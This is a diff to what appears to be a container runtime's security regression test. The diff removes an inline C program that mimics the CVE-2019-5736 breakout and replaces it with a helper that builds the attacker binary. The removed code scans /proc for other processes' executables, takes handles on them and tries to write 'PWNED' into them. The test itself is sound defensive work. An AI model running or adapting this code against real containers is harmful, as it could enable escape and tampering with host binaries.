@@ -89,55 +89,9 @@ expect_run 126 "$S"
 [[ "$OUT" != *ociVersion* ]] || fail "ferry's binary ran through a #! line: [$OUT]"
 # While `exec` starts processes in it, a container process hunts for a handle on any process's
 # executable that is not its own image's, as the CVE-2019-5736 exploit does.
-if command -v gcc >/dev/null && [ -e /usr/lib/x86_64-linux-gnu/libc.a -o -e /usr/lib/aarch64-linux-gnu/libc.a ]; then
-    cat >"$TEST_TMP/grab.c" <<'C'
-#define _GNU_SOURCE
-#include <dirent.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-#include <time.h>
-#include <unistd.h>
-int main(int argc, char** argv) {
-    int seconds = atoi(argv[1]), opened = 0, denied = 0, foreign = 0;
-    time_t end = time(0) + seconds;
-    pid_t self = getpid();
-    while (time(0) < end) {
-        DIR* d = opendir("/proc");
-        struct dirent* e;
-        while ((e = readdir(d))) {
-            pid_t pid = atoi(e->d_name);
-            if (pid <= 1 || pid == self) continue;
-            char path[64], target[512];
-            snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            /* /proc/PID/mem needs what ptrace attach needs (PTRACE_MODE_ATTACH) */
-            char mem[64];
-            snprintf(mem, sizeof mem, "/proc/%d/mem", pid);
-            int m = open(mem, O_RDONLY | O_CLOEXEC);
-            int traced = m >= 0;
-            if (m >= 0) close(m);
-            int fd = open(path, O_PATH | O_CLOEXEC);
-            if (fd < 0) { denied++; continue; }
-            opened++;
-            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-            ssize_t n = readlink(path, target, sizeof target - 1);
-            target[n > 0 ? n : 0] = 0;
-            if (!strstr(target, "busybox") && !strstr(target, "grab") && !strstr(target, "memfd:"))
-                foreign++, fprintf(stderr, "FOREIGN %s%s\n", target, traced ? " (attachable)" : "");
-            int w = open(path, O_WRONLY | O_APPEND);  /* the exploit's write */
-            if (w >= 0 && foreign) { write(w, "PWNED", 5); close(w); }
-            close(fd);
-        }
-        closedir(d);
-    }
-    printf("opened=%d denied=%d foreign=%d\n", opened, denied, foreign);
-    return foreign != 0;
-}
-C
-    gcc -static -O2 -o "$ROOT/bin/grab" "$TEST_TMP/grab.c" || fail "cannot build the attacker"
+if build_attacker "$ROOT/bin/attacker"; then
     rm -f "$TEST_TMP/pid"
-    make_spec "$S" "$ROOT" -- sh -c 'grab 8 >/tmp/result 2>&1; sleep 30'
+    make_spec "$S" "$ROOT" -- sh -c 'attacker 8 >/tmp/result.tmp 2>&1; mv /tmp/result.tmp /tmp/result; sleep 30'
     "$FET" run --pid-file "$TEST_TMP/pid" "$S" & bg=$!
     for _ in $(seq 50); do [ -s "$TEST_TMP/pid" ] && break; sleep 0.1; done
     E=$TEST_TMP/exec.json
@@ -145,7 +99,8 @@ C
     for _ in $(seq 60); do "$FET" exec --pid "$(cat "$TEST_TMP/pid")" "$E" || fail "exec failed with $?"; done
     make_spec "$E" "$ROOT" -- evil
     for _ in $(seq 10); do "$FET" exec --pid "$(cat "$TEST_TMP/pid")" "$E" 2>/dev/null && fail "evil ran"; done
-    sleep 9
+    make_spec "$E" "$ROOT" -- test -s /tmp/result
+    for _ in $(seq 200); do "$FET" exec --pid "$(cat "$TEST_TMP/pid")" "$E" && break; sleep 0.1; done
     make_spec "$E" "$ROOT" -- cat /tmp/result
     result=$("$FET" exec --pid "$(cat "$TEST_TMP/pid")" "$E")
     note "attacker: $result"
